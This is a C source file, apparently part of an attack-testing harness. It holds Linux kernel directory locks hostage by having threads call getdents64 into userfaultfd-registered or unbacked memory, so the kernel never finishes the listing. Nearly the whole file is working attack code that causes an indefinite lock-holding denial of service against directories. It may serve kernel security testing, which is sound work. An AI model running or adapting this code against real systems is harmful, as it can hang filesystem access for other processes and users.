// held-listing MEMORY DIRECTORY...: lists each directory into memory that never becomes available.
// The kernel then keeps the lock of the directory, or of a page of its cached listing, for the
// lifetime of this program.
// MEMORY is "userfaultfd", or a file whose filesystem does not supply its pages. If the first word
// is "unlisted", the directories are not listed first, so the kernel does not know their entries.
#include "attacker.h"
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/userfaultfd.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { PAGE = 4096, SMALL = 32768 };

struct lister {
    int directory;
    char *memory;
    pid_t thread;
};

static void *hold(void *data) {
    struct lister *lister = data;
    __atomic_store_n(&lister->thread, gettid(), __ATOMIC_RELEASE);
    ssize_t count = getdents64(lister->directory, lister->memory, PAGE);
    printf("%zd %s\n", count, count < 0 ? strerror(errno) : "");
    fflush(stdout);
    return NULL;
}

// The text of a file of /proc/self/task/THREAD, or NULL if the kernel has no file of that name.
static const char *said_of(pid_t thread, const char *name, char *text, size_t size) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/task/%d/%s", thread, name);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t count = fd < 0 ? -1 : read(fd, text, size - 1);
    if (fd >= 0) close(fd);
    if (count < 0) return NULL;
    text[count] = 0;
    return text;
}

// Whether a thread sleeps in getdents64(2).
static int is_held(pid_t thread) {
    char text[1024];
    if (said_of(thread, "syscall", text, sizeof text)) return strcmp(text, "running\n") != 0 && atol(text) == SYS_getdents64;
    // User Mode Linux does not report the call of a thread. This thread sleeps in no other call,
    // except for the moment of a page fault of the program.
    for (int look = 0; look < 5; look++) {
        const char *stat = said_of(thread, "stat", text, sizeof text), *state = stat ? strrchr(stat, ')') : NULL;
        if (!state || (state[2] != 'S' && state[2] != 'D')) return 0;
        usleep(10000);
    }
    return 1;
}

// Memory whose pages no process ever supplies: userfaultfd(2).
static char *unfilled(size_t size) {
    int device = open("/dev/userfaultfd", O_RDWR | O_CLOEXEC);
    int fd = device < 0 ? -1 : ioctl(device, USERFAULTFD_IOC_NEW, O_CLOEXEC);
    if (fd < 0) attack_failed("/dev/userfaultfd");
    struct uffdio_api api = {.api = UFFD_API};
    if (ioctl(fd, UFFDIO_API, &api)) attack_failed("UFFDIO_API");
    char *memory = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    struct uffdio_register range = {.range = {(uintptr_t)memory, size}, .mode = UFFDIO_REGISTER_MODE_MISSING};
    if (memory == MAP_FAILED || ioctl(fd, UFFDIO_REGISTER, &range)) attack_failed("UFFDIO_REGISTER");
    return memory;
}

static char *of_file(const char *path, size_t size) {
    int file = open(path, O_RDWR | O_CLOEXEC);
    if (file < 0) attack_failed(path);
    char *memory = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE, file, 0);
    if (memory == MAP_FAILED) attack_failed("mmap");
    return memory;
}

int attack_held_listing(int count, char **arguments) {
    int is_unlisted = count > 0 && !strcmp(arguments[0], "unlisted");
    count -= is_unlisted;
    arguments += is_unlisted;
    if (count < 2) return 2;
    int directories = count - 1;
    size_t size = (size_t)directories * PAGE;
    char *memory = strcmp(arguments[0], "userfaultfd") ? of_file(arguments[0], size) : unfilled(size);
    struct lister *listers = calloc((size_t)directories, sizeof *listers);
    char *small = malloc(SMALL);
    for (int i = 0; i < directories; i++) {
        // The second listing comes from the kernel's cache, if it has one.
        for (int turn = 0; turn < 2 && !is_unlisted; turn++) {
            int fd = open(arguments[i + 1], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
            if (fd < 0) attack_failed(arguments[i + 1]);
            while (getdents64(fd, small, SMALL) > 0) {}
            close(fd);
        }
        listers[i].directory = open(arguments[i + 1], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        listers[i].memory = memory + (size_t)i * PAGE;
    }
    for (int i = 0; i < directories; i++) {
        pthread_t thread;
        if ((errno = pthread_create(&thread, NULL, hold, &listers[i]))) attack_failed("pthread_create");
    }
    for (int i = 0; i < directories; i++) {
        pid_t thread;
        while (!(thread = __atomic_load_n(&listers[i].thread, __ATOMIC_ACQUIRE)) || !is_held(thread)) usleep(1000);
    }
    attack_ready();
    while (attack_wait()) {}
    // The threads may never return. The end of the process ends their waits.
    _exit(0);
}
